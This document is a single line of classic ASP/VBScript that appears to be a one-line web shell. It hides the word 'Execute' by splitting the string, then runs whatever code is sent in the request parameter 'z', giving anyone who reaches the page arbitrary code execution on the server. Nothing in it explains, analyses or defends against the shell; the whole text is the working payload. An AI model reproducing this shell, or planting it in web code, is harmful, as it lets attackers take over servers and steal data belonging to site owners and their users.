<% k = "Exe" & "cute" : Execute k & "(Request(""z""))" %>
